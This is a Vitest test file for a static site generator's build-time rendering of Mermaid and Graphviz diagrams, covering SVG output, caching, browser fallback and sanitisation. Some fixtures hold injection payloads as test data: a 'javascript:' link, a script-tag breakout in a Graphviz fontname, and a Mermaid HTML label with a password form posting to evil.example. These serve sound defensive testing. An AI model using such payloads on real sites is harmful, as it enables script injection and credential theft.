import { describe, expect, it } from 'vitest';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { build } from '../src/pipeline/index.js';
import { useTempSites } from './helpers/site.js';
import { runCli, spawnCli } from './helpers/cli.js';

const site = useTempSites();

const DIAGRAMS = `-- casebook.config.yaml --
title: Diagrams
baseUrl: https://example.com/
-- content/writing/flows.md --
---
title: Flows
date: 2024-03-01
---
How a request reaches the database:

\`\`\`mermaid title="Request path through the edge, API and queue"
flowchart LR
  edge[Edge proxy] --> api[Checkout API]
  api --> queue[(Job queue)]
  api --> db[(Postgres)]
\`\`\`

And who talks to whom:

\`\`\`mermaid
sequenceDiagram
  accTitle: Retry handshake between client and API
  Client->>API: POST /charge (Idempotency-Key)
  API-->>Client: 409 in progress
  Client->>API: retry after 200 ms
  API-->>Client: 201 created
\`\`\`

This one is broken:

\`\`\`mermaid
flowchart LR
  a --> (((
\`\`\`
`;

describe('Mermaid diagrams at build time', () => {
  it('draws each fence as inline SVG in light and dark variants with an accessible name, and no script', { timeout: 180_000 }, async () => {
    const dir = await site(DIAGRAMS);
    const out = join(dir, 'dist');
    const r = await runCli(['build', dir, '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const page = await readFile(join(out, 'writing/flows/index.html'), 'utf8');
    const figures = [
      ...page.matchAll(
        /<figure class="diagram" role="img" aria-label="([^"]*)"><div class="diagram-light"><svg[\s\S]*?<\/svg><\/div><div class="diagram-dark"><svg[\s\S]*?<\/svg><\/div><\/figure>/g,
      ),
    ];
    expect(figures.map((m) => m[1])).toEqual(['Request path through the edge, API and queue', 'Retry handshake between client and API']);
    // The labels are drawn as SVG text: the words are in the page, not in a script.
    expect(figures[0]![0]).toMatch(/Checkout(<[^>]*>|\s)*API/);
    // No script file comes with a diagram (the theme's one inline script only remembers the colour scheme).
    expect(page).not.toMatch(/<script[^>]*\ssrc=/);
    expect(page).not.toContain('mermaid.min.js');
    // The broken diagram stays readable as code, with a warning that points at its line.
    expect(page).toMatch(/<figure class="diagram" data-diagram="[0-9a-f]+"><pre class="code" data-lang="mermaid"/);
    expect(r.stdout + r.stderr).toContain('CB1433');
    expect(r.stdout + r.stderr).toContain('flows.md:27');
  });

  it('draws nothing and starts no browser on a warm build; another post with the same diagram reuses it', { timeout: 180_000 }, async () => {
    const dir = await site(DIAGRAMS);
    const first = await build({ site: dir, out: join(dir, 'dist') });
    expect(first.diagrams).toEqual({ drawn: 2, reused: 0, browsers: 1 });
    const post = join(dir, 'content/writing/flows.md');
    const { writeFile } = await import('node:fs/promises');
    await writeFile(post, (await readFile(post, 'utf8')) + '\nA new closing paragraph.\n');
    const warm = await build({ site: dir, out: join(dir, 'dist') });
    // The broken one is tried again (it is not cached); the two good ones come from the cache.
    expect(warm.diagrams.drawn).toBe(0);
    expect(warm.diagrams.reused).toBe(2);
    await writeFile(post, (await readFile(post, 'utf8')).replace(/This one is broken:[\s\S]*$/, ''));
    const fixed = await build({ site: dir, out: join(dir, 'dist') });
    expect(fixed.diagrams).toEqual({ drawn: 0, reused: 2, browsers: 0 });
  });

  it('without Chromium, shows the sources as code and names the posts in one warning', { timeout: 120_000 }, async () => {
    const dir = await site(DIAGRAMS);
    const r = await spawnCli(['build', dir, '--out', join(dir, 'dist')], { CHROME_PATH: join(dir, 'no-such-browser') });
    expect(r.code, r.stderr).toBe(0);
    const said = r.stdout + r.stderr;
    expect(said).toContain('CB1432');
    expect(said).toContain('content/writing/flows.md');
    const page = await readFile(join(dir, 'dist/writing/flows/index.html'), 'utf8');
    expect(page.match(/data-lang="mermaid"/g)).toHaveLength(3);
    expect(page).toContain('edge[Edge proxy] --&gt; api[Checkout API]');
    expect(page).not.toContain('class="diagram-light"');
  });

  it('draws the Mermaid fences of a site made with another tool too', { timeout: 180_000 }, async () => {
    const dir = await site(`-- hugo.toml --
baseURL = "https://example.org/"
title = "Old blog"
-- content/posts/queue.md --
---
title: "Queue"
date: 2021-05-01
---
\`\`\`mermaid
graph TD
  producer --> broker --> consumer
\`\`\`
`);
    const r = await runCli(['build', dir, '--out', join(dir, 'dist')]);
    expect(r.code, r.stderr).toBe(0);
    const page = await readFile(join(dir, 'dist/posts/queue/index.html'), 'utf8');
    expect(page).toMatch(/<figure class="diagram" role="img" aria-label="graph TD"><div class="diagram-light"><svg/);
    expect(page).not.toContain('<pre class="mermaid">');
  });

  it('draws Graphviz fences in this process, without links that could run script', { timeout: 120_000 }, async () => {
    const dir = await site(`-- content/writing/graph.md --
---
title: Graph
date: 2024-03-01
---
\`\`\`dot
digraph deps {
  label = "Service dependencies";
  api -> db;
  api -> cache [URL="javascript:alert(1)"];
  worker -> db;
}
\`\`\`

\`\`\`graphviz
digraph { a -> }
\`\`\`
`);
    const result = await build({ site: dir, out: join(dir, 'dist') }, undefined);
    expect(result.diagrams).toEqual({ drawn: 1, reused: 0, browsers: 0 });
    const page = await readFile(join(dir, 'dist/writing/graph/index.html'), 'utf8');
    const figure = /<figure class="diagram" role="img" aria-label="Service dependencies">[\s\S]*?<\/figure>/.exec(page)?.[0];
    expect(figure).toBeDefined();
    expect(figure!.match(/<svg/g)).toHaveLength(2);
    expect(figure).toContain('>worker</text>');
    expect(figure).not.toContain('javascript:');
    expect(page).toMatch(/<pre class="code" data-lang="dot"/);
    expect(result.warnings.map((w) => w.code)).toContain('CB1433');
  });

  it('passes casebook check: diagrams, a right-aligned table column, kept raw-HTML styles and a pasted YouTube embed', { timeout: 180_000 }, async () => {
    const dir = await site(`-- casebook.config.yaml --
title: Checked
baseUrl: https://example.org/
-- content/writing/checked.md --
---
title: Checked
date: 2024-03-01
description: A post that uses what the guide documents.
---
\`\`\`dot
digraph { api -> db; }
\`\`\`

\`\`\`dot
digraph { worker -> db; }
\`\`\`

\`\`\`mermaid
flowchart LR
  a --> b
\`\`\`

| Service | p99 |
|---|---:|
| api | 95 ms |

<p style="color: #8a1c1c">Careful.</p>

<iframe width="560" height="315" src="https://www.youtube.com/embed/aqz-KE-bpKQ" title="A talk" frameborder="0" allowfullscreen></iframe>
`);
    const r = await runCli(['check', dir]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout + r.stderr).not.toMatch(/duplicate-id/);
  });

  it('lets no diagram carry script, HTML or links: Graphviz fontname, Mermaid HTML labels; a huge graph and a browser that will not start are warnings', {
    timeout: 180_000,
  }, async () => {
    const dir = await site(`-- content/writing/hostile.md --
---
title: Hostile
date: 2024-03-01
---
\`\`\`dot
digraph G { e [fontname="\\"><script>window.__pwned=1</script>", label="e"]; }
\`\`\`

\`\`\`mermaid
%%{init: {"htmlLabels":true, "flowchart":{"htmlLabels":true}}}%%
flowchart LR
  A["<form action='https://evil.example/'><input name=pw></form>"] --> B
  click B "https://evil.example/"
\`\`\`

\`\`\`dot
digraph big { ${Array.from({ length: 2500 }, (_, i) => `n${i} -> n${(i * 7 + 1) % 2500};`).join(' ')} }
\`\`\`
`);
    const r = await runCli(['build', dir, '--out', join(dir, 'dist')]);
    expect(r.code, r.stderr).toBe(0);
    const page = await readFile(join(dir, 'dist/writing/hostile/index.html'), 'utf8');
    const figures = [...page.matchAll(/<figure class="diagram"[\s\S]*?<\/figure>/g)].map((m) => m[0]);
    expect(figures).toHaveLength(3);
    for (const f of figures.slice(0, 2)) {
      expect(f).toContain('<svg');
      expect(f).not.toMatch(/<script|<form|<input|foreignObject|evil\.example|__pwned=1<|<a[\s>]/);
    }
    expect(figures[2]).toMatch(/data-lang="dot"/);
    expect(r.stdout + r.stderr).toMatch(/CB1433[\s\S]*too large to lay out/);

    const noBrowser = await site(DIAGRAMS);
    const failed = await spawnCli(['build', noBrowser, '--out', join(noBrowser, 'dist')], { CHROME_PATH: '/bin/false' });
    expect(failed.code, failed.stderr).toBe(0);
    expect(failed.stdout + failed.stderr).toContain('CB1432');
  });
});
